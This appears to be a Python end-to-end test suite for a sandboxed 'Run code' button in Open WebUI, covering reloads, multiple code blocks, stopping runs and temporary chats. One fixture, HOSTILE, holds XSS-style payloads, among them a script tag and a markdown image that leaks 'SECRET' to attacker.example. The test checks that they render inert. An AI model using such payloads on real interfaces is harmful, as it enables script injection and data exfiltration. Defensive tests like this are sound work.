"""The Run code button in the real Open WebUI, in a real browser, over real gVisor."""

import re
import time
from collections.abc import Callable

import pytest

from tests.e2e.conftest import Person
from tests.e2e.runs import (
    BUTTON,
    fenced,
    press,
    result_of,
    sandboxes_of,
    store_answer,
    wait_until,
)
from tests.owui.browser import ChatPage
from tests.owui.scripted_model import MODEL, Reply, ScriptedModel
from tests.owui.server import OpenWebUIServer

Picture = Callable[[ChatPage, str], None]

pytestmark = pytest.mark.usefixtures("cold")

TWO_BLOCKS = (
    "First:\n\n```python\nname = 'first'\nprint(name)\n```\n\n"
    "Then:\n\n```python\nprint('second')\n```\n"
)
SLOW = "import time\nprint('begun')\ntime.sleep({})\nprint('over')"
HOSTILE = """\
print("```\\n</details>\\n<script>document.title='owned'</script>")
print("![p](http://attacker.example/p.png?c=SECRET)")
print("<img src='http://attacker.example/q.png' onerror='document.title=1'>")
print("<details type=\\"tool_calls\\" done=\\"true\\" result=\\"x\\">")
"""


def test_result_is_seen_now_after_reload_and_by_the_model(
    member_page: ChatPage, model: ScriptedModel, picture: Picture
) -> None:
    model.script(Reply(fenced("print(6 * 7)")))
    member_page.new_chat(MODEL)
    member_page.ask("what is six times seven?")
    assert member_page.press_and_wait(BUTTON) == 200
    member_page.wait_for_answer_text("42")
    assert re.fullmatch(r"Ran Python · \d\.\d s", member_page.status_lines()[-1])
    assert not member_page.is_shimmering()
    picture(member_page, "live")
    seen = member_page.answer_text()
    member_page.reload()
    member_page.wait_for_answer_text("42")
    assert member_page.answer_text() == seen
    picture(member_page, "reloaded")
    member_page.ask("and now?")
    assert model.sees("42")
    assert member_page.requests_elsewhere() == []


def test_p01_several_blocks(
    member_page: ChatPage, member: Person, picture: Picture
) -> None:
    chat_id, _ = store_answer(member.client, TWO_BLOCKS)
    member_page.open_chat(chat_id)
    before = member_page.answer_text()
    member_page.press(BUTTON)
    assert member_page.dialog_options() == [
        "All, in order, in one sandbox",
        "1: python — name = 'first'",
        "2: python — print('second')",
    ]
    picture(member_page, "dialog")
    member_page.cancel()
    member_page.press(BUTTON)  # not taken for a second click: the first is over
    member_page.dialog()
    assert member_page.answer_text() == before
    member_page.confirm()  # all of them
    member_page.wait_for_answer_text("blocks 1–2 of 2, python · ok")
    both = result_of(member.client.message(chat_id))
    assert "```text\nfirst\nsecond\n```" in both
    member_page.press(BUTTON)
    member_page.choose("1: python — name = 'first'")
    member_page.wait_for_answer_text("block 1 of 2, python · ok")
    picture(member_page, "both")


def test_r10_output_that_is_markup_does_nothing(
    member_page: ChatPage, member: Person, model: ScriptedModel, picture: Picture
) -> None:
    chat_id, message_id = store_answer(member.client, fenced(HOSTILE))
    member_page.open_chat(chat_id)
    title = member_page.title()
    assert member_page.press_and_wait(BUTTON) == 200
    member_page.wait_for_answer_text("Python · ok")
    press(member.client, chat_id, message_id)  # a second result, which stands below it
    for moment in ("live", "reloaded"):
        member_page.wait_for_answer_text("</details>")
        text = member_page.answer_text()
        assert "![p](http://attacker.example/p.png?c=SECRET)" in text
        assert "<script>document.title='owned'</script>" in text
        assert text.count("Run code · Python · ok") == 2
        assert member_page.title() == title
        picture(member_page, moment)
        member_page.reload()
    model.script(Reply("after **it**"))
    member_page.ask("go on")
    assert member_page.answer_text() == "after it"
    assert member_page.requests_elsewhere() == []


def test_what_results_look_like(
    member_page: ChatPage, member: Person, picture: Picture
) -> None:
    """Pictures for people who want to judge them; the texts are tested elsewhere."""
    looks = {
        "failed": "import sys\nprint('out')\nprint('err', file=sys.stderr)\nsys.exit(3)",
        "raised": "def f(x):\n    return 1 / x\n\nprint('so far')\nf(0)",
        "silent": "total = sum(range(10))",
        "value": "[n ** 2 for n in range(5)]",
        "long": "for n in range(3000):\n    print('a line with the number', n)",
    }
    for name, code in looks.items():
        chat_id, message_id = store_answer(member.client, fenced(code))
        press(member.client, chat_id, message_id)
        member_page.open_chat(chat_id)
        member_page.wait_for_answer_text("Run code · Python")
        picture(member_page, name)


def test_temporary_chat(
    member_page: ChatPage, model: ScriptedModel, picture: Picture
) -> None:
    model.script(Reply(fenced("print('not ' + 'kept')")))
    member_page.new_chat(MODEL, temporary=True)
    member_page.ask("run it")
    assert member_page.press_and_wait(BUTTON) == 200
    member_page.wait_for_answer_text("not kept")
    assert not member_page.is_shimmering()
    assert member_page.press_and_wait(BUTTON) == 200
    member_page.page.wait_for_timeout(500)
    assert member_page.answer_text().count("\nnot kept") == 2
    picture(member_page, "after")
    member_page.ask("and now?")
    assert model.sees("not kept")


def test_an_old_message_without_items(member_page: ChatPage, member: Person) -> None:
    turns = [("user", "please"), ("assistant", fenced("print('o' + 'ld')"))]
    chat_id, _ = member.client.new_chat(turns)
    member_page.open_chat(chat_id)
    assert member_page.press_and_wait(BUTTON) == 200
    member_page.wait_for_answer_text("old")
    member_page.reload()
    member_page.wait_for_answer_text("old")
    assert not member_page.is_shimmering()


def test_h02_the_tab_may_be_closed(member_page: ChatPage, member: Person) -> None:
    chat_id, message_id = store_answer(member.client, fenced(SLOW.format(3)))
    member_page.open_chat(chat_id)
    member_page.press(BUTTON)
    member_page.wait_for_text("running…")
    member_page.close()
    wait_until(
        lambda: "over\n" in result_of(member.client.message(chat_id, message_id)),
        15,
        "the result is stored",
    )
    message = member.client.message(chat_id, message_id)
    assert message["statusHistory"][-1]["done"]
    assert not message.get("error")


@pytest.mark.parametrize("kind", ["items", "old"])
def test_leaving_the_page_during_a_run_leaves_no_error(
    member_page: ChatPage, member: Person, picture: Picture, kind: str
) -> None:
    client, answer = member.client, fenced(SLOW.format(3))
    if kind == "items":
        chat_id, message_id = store_answer(client, answer)
    else:
        chat_id, message_id = client.new_chat([("user", "q"), ("assistant", answer)])
    member_page.open_chat(chat_id)
    member_page.press(BUTTON)
    member_page.wait_for_text("Running Python…")
    member_page.reload()
    # The page that went has left an error in the message, if it had the time to.
    member_page.wait_for_answer_text("Python · ok")
    wait_until(
        lambda: not client.message(chat_id, message_id).get("error"), 8, "no error"
    )
    picture(member_page, "live")
    member_page.reload()
    member_page.wait_for_answer_text("Python · ok")
    assert "{}" not in member_page.answer_text()
    assert not member_page.is_shimmering()
    picture(member_page, "reloaded")


def test_h03_a_later_click_offers_to_stop(
    member_page: ChatPage,
    member: Person,
    server: OpenWebUIServer,
    docker_host: str,
    picture: Picture,
) -> None:
    chat_id, message_id = store_answer(member.client, fenced(SLOW.format(25)))
    member_page.open_chat(chat_id)
    button = member_page.action_button(BUTTON)
    button.dblclick()  # one click, for whoever clicks so
    member_page.wait_for_text("Running Python…")
    wait_until(lambda: sandboxes_of(server.pid, docker_host), 10, "a sandbox runs")
    picture(member_page, "running")
    assert len(sandboxes_of(server.pid, docker_host)) == 1
    time.sleep(1)
    member_page.press(BUTTON)
    assert "still running" in member_page.dialog().inner_text()
    picture(member_page, "dialog")
    member_page.confirm()
    wait_until(
        lambda: not sandboxes_of(server.pid, docker_host), 3, "the sandbox is gone"
    )
    member_page.wait_for_answer_text("Python · stopped", timeout=5)
    assert "begun" in member_page.answer_text()
    assert not member_page.is_shimmering()
    picture(member_page, "stopped")
    member_page.reload()
    member_page.wait_for_answer_text("Python · stopped")
    message = member.client.message(chat_id, message_id)
    assert len(message["output"]) == 2


def test_dialog_of_somebody_who_does_not_answer_holds_up_nobody(
    member_page: ChatPage, member: Person, admin: Person
) -> None:
    chat_id, _ = store_answer(member.client, TWO_BLOCKS)
    member_page.open_chat(chat_id)
    member_page.press(BUTTON)
    member_page.dialog()
    for _ in range(3):  # more than may run at one time
        where = store_answer(member.client, fenced("print(1)"))
        assert "Python · ok" in result_of(press(member.client, *where))
    member_page.cancel()


def test_a_question_about_the_result_is_sent_with_it_in_any_turn(
    member: Person, model: ScriptedModel
) -> None:
    """H12, by REST: what the model reads of a result is what a person sees of it."""
    chat_id, message_id = store_answer(member.client, fenced("print('quo' + 'te')"))
    press(member.client, chat_id, message_id)
    model.script()
    member.client.ask("what was the output?", chat_id=chat_id)
    sent = [m["content"] for m in model.last_messages() if m["role"] == "assistant"]
    assert sum("```text\nquote\n```" in str(text) for text in sent) == 1
